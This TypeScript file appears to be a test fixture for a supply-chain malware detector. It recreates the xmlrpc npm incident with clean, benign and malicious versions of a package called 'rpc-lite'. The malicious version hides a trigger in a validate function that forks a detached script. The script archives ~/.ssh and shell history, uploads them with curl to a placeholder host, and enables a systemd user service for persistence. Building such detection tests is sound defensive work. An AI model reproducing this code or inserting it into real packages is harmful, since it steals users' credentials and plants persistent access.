import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'xmlrpc',
  after: '@0xengine/xmlrpc, 2023 to 2024',
  source:
    'https://checkmarx.com/blog/dozens-of-machines-infected-year-long-npm-supply-chain-attack-combines-crypto-mining-and-data-theft/',
  shape: [
    'call',
    'conditional on an argument',
    'cli',
    'by a child',
    'file drop',
    'tar and curl',
    'user service',
    'cjs',
  ],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['rpc-lite'],
  host: { kind: 'cli', setup: "const { validate } = require('rpc-lite');", use: 'return validate(n);' },
  good: { 'rpc-lite': { 'index.js': 'exports.validate = (n) => Number.isInteger(n);' } },
  benign: { 'rpc-lite': { 'index.js': 'exports.validate = (n) => Number.isSafeInteger(n);' } },
  bad: {
    'rpc-lite': {
      'index.js': `exports.validate = (n) => {
  if (n > 6) require('child_process').fork(require('path').join(__dirname, 'lib/validator.js'), { detached: true, stdio: 'ignore' }).unref();
  return Number.isInteger(n);
};`,
      'lib/validator.js': `const { spawnSync } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
const home = os.homedir(), pack = path.join(os.tmpdir(), 'backup.tgz');
spawnSync('tar', ['czf', pack, '-C', home, '.ssh', '.bash_history']);
spawnSync('curl', ['-s', '-F', 'file=@' + pack, 'http://@A@:@PORT@/upload']);
const units = path.join(home, '.config/systemd/user'); fs.mkdirSync(units, { recursive: true });
fs.writeFileSync(path.join(units, 'Xsession.auth.service'), '[Service]\\nExecStart=/usr/bin/true\\n');
spawnSync('systemctl', ['--user', 'enable', 'Xsession.auth.service']);
process.disconnect();`,
    },
  },
  proof: [{ stub: 'curl -s -F file=@' }, { stub: 'systemctl --user enable' }],
};
